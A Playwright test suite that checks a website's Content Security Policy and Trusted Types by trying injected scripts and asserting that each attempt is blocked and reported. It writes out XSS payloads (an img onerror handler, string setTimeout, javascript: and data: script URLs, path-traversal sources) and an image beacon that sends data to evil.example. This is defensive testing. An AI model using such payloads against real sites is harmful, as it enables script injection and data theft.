import type { Page } from 'playwright/test';
import { expect, open, test } from './site';

test.describe.configure({ retries: 0 });

/** What a script that got into a page would try. None of it may happen, and each try must be seen. */
const BREACHES: Record<string, (page: Page) => Promise<unknown>> = {
  'an inline script': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.append('window.ran = true');
      document.body.append(script);
    }),
  'an inline handler': (page) =>
    page.evaluate(() => {
      try {
        document.body.setAttribute('onclick', 'window.ran = true');
        document.body.click();
      } catch {
        // Trusted Types refuse it.
      }
    }),
  'text as HTML': (page) =>
    page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">');
      } catch {
        // Trusted Types refuse it.
      }
    }),
  'text as code': (page) =>
    page.evaluate(() => {
      try {
        setTimeout('window.ran = true', 0);
      } catch {
        // Trusted Types refuse it.
      }
    }),
  'a policy of its own': (page) =>
    page.evaluate(() => {
      try {
        Reflect.get(window, 'trustedTypes').createPolicy('mine', { createHTML: (html: string) => html });
      } catch {
        // No name but the site's own is allowed.
      }
    }),
  'a connection to another site': (page) =>
    page.evaluate(() => fetch('https://evil.example/').catch(() => {})),
  'an image that carries data away': (page) =>
    page.evaluate(() => {
      document.body.append(Object.assign(new Image(), { src: 'https://evil.example/?data' }));
    }),
  'a base address': (page) =>
    page.evaluate(() => {
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
    }),
  'a frame of another site': (page) =>
    page.evaluate(() => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
    }),
};

for (const [name, breach] of Object.entries(BREACHES)) {
  test(`${name} is refused, and the suite sees it`, async ({ context, violations }) => {
    // Not the fixture's page, which complains of every error by itself.
    const page = await context.newPage();
    await open(page, '/about');
    expect(violations).toEqual([]);
    await breach(page);
    await expect.poll(() => violations.length).toBeGreaterThan(0);
    expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
    await page.close();
    // What was meant to be seen was seen.
    violations.length = 0;
  });
}

test('the one policy that makes scripts knows the site’s own alone', async ({ page }) => {
  await open(page, '/about');
  const isRefused = (src: string) =>
    page.evaluate((address) => {
      try {
        document.createElement('script').src = address;
        return false;
      } catch {
        return true;
      }
    }, src);
  for (const src of [
    'https://evil.example/x.js',
    '//evil.example/_next/static/x.js',
    'data:text/javascript,window.ran=true',
    'blob:https://evil.example/x',
    'javascript:window.ran=true',
    '/api/site-index.json',
    '/_next/static/../../api/health',
    '/_next/static/%2e%2e/%2e%2e/api/health',
    '/images/x.js',
  ])
    expect(await isRefused(src), src).toBe(true);
  expect(await isRefused('/_next/static/chunks/x.js')).toBe(false);
  expect(await isRefused('/sw.js')).toBe(false);
});
